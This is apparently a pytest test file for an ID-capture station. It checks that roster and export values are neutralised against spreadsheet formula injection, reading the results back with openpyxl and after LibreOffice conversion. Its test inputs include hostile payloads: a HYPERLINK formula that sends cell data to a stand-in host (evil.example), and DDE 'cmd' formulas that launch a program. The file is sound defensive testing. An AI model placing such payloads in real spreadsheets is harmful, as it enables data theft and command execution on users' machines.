"""Formula injection: a roster or captured value starting with = + - @ tab or CR never
becomes a live formula in the export workbook or a written roster, read back with
openpyxl and after conversion by LibreOffice (to CSV and to .xlsx)."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from station_helpers import FixedPortraitMaker, card_for, finger

from idcapture.formats.cells import neutralise
from idcapture.formats.roster import read_roster, write_roster
from idcapture.station import Store, import_roster, register_students
from idcapture.station.export import export_package
from idcapture.station.session import (
    CaptureSession,
    CardPresented,
    FingerPresented,
    FramePresented,
    Save,
)
from idcapture.station.steps import Steps

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76,1"
HOSTILE = {
    "school_name": '=HYPERLINK("http://evil.example/?"&F2,"x")',
    "class_name": "+1+cmd|' /C calc'!A0",
    "ethnicity": "@SUM(1+1)*cmd|' /C calc'!A0",
    "student_no": "-2+3",
}
HOSTILE_NAME = "=cmd|'/C calc'!A0"


def _formulas(xlsx: Path) -> list[str]:
    """Formula elements in any worksheet of ``xlsx`` (the raw XML, not a reader's view)."""
    out = []
    with zipfile.ZipFile(xlsx) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                out += re.findall(rb"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>|<(?:\w+:)?f/>",
                                  zf.read(name))
    return [f.decode() for f in out]


def _check_openpyxl(xlsx: Path) -> list[list[str]]:
    wb = openpyxl.load_workbook(xlsx)  # not read-only: data_type of every cell
    rows = []
    for row in wb.worksheets[0].iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
        rows.append(["" if c.value is None else str(c.value) for c in row])
    wb.close()
    return rows


def _soffice(src: Path, target: str, out: Path) -> Path:
    assert SOFFICE is not None
    profile = (out.parent / "lo-profile").as_uri()
    proc = subprocess.run([SOFFICE, f"-env:UserInstallation={profile}", "--headless",
                           "--norestore", "--convert-to", target, "--outdir", str(out),
                           str(src)], capture_output=True, text=True, timeout=240)
    converted = out / (src.stem + ("." + target.split(":")[0]))
    assert proc.returncode == 0 and converted.is_file(), proc.stderr[-500:]
    return converted


def test_neutralise_follows_the_owasp_rule() -> None:
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    for safe in ("", "张三", "1+1", "'=x", " =x"):
        assert neutralise(safe) == safe


def test_written_roster_has_no_formula_and_reimports_unchanged(
        students: list[dict[str, str]], tmp_path: Path) -> None:
    rows = [dict(s) for s in students[:3]]
    rows[0].update(HOSTILE)
    rows[1]["name"] = HOSTILE_NAME
    for suffix in (".xlsx", ".csv"):
        path = write_roster(tmp_path / f"r{suffix}", rows, title="=1+1")
        if suffix == ".xlsx":
            assert _formulas(path) == []
            values = _check_openpyxl(path)
            assert values[0][0] == "'=1+1"
        else:
            assert "\n=" not in path.read_text("utf-8-sig").replace('"', "")
        back = list(read_roster(path).rows)
        assert back[0].values["school_name"] == HOSTILE["school_name"]
        assert back[0].values["student_no"] == HOSTILE["student_no"]
        assert back[1].values["name"] == HOSTILE_NAME


def _capture(store: Store, row: dict[str, str], seed: int) -> None:
    s = CaptureSession.start(store, "op1", Steps(portrait=FixedPortraitMaker()))
    s.handle(CardPresented(card_for(row)))
    s.handle(FramePresented(np.full((480, 640, 3), 190, np.uint8)))
    s.handle(FingerPresented(finger(seed)))
    s.handle(FingerPresented(finger(seed + 1)))
    s.handle(Save())


@pytest.fixture
def hostile_export(store: Store, students: list[dict[str, str]], tmp_path: Path) -> Path:
    rows = [dict(s) for s in students[:2]]
    rows[0].update(HOSTILE)
    rows[1]["name"] = HOSTILE_NAME
    import_roster(store, write_roster(tmp_path / "roster.csv", rows))
    register_students(store)
    _capture(store, rows[0], 60)
    _capture(store, rows[1], 62)
    rep = export_package(store, tmp_path / "pkg.zip")
    assert rep.exported == 2
    book = tmp_path / "book" / "export.xlsx"
    book.parent.mkdir()
    with zipfile.ZipFile(rep.package) as zf:
        book.write_bytes(zf.read("export.xlsx"))
    return book


def test_export_workbook_has_only_string_cells(hostile_export: Path) -> None:
    assert _formulas(hostile_export) == []
    values = _check_openpyxl(hostile_export)
    cells = {v for row in values for v in row}
    for text in (*HOSTILE.values(), HOSTILE_NAME):
        assert "'" + text in cells


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (./run.sh setup "
                    "installs libreoffice-calc-nogui)")
def test_no_formula_survives_libreoffice(hostile_export: Path, tmp_path: Path) -> None:
    out = tmp_path / "lo"
    csv_text = _soffice(hostile_export, CSV_FILTER, out).read_text("utf-8")
    for text in (*HOSTILE.values(), HOSTILE_NAME):
        assert "'" + text.replace('"', '""') in csv_text      # shown as typed, not computed
    assert ",2," not in csv_text and ",1," not in csv_text   # "=1+1"-style results absent
    again = _soffice(hostile_export, "xlsx:Calc MS Excel 2007 XML", out / "x")
    assert _formulas(again) == []
    _check_openpyxl(again)
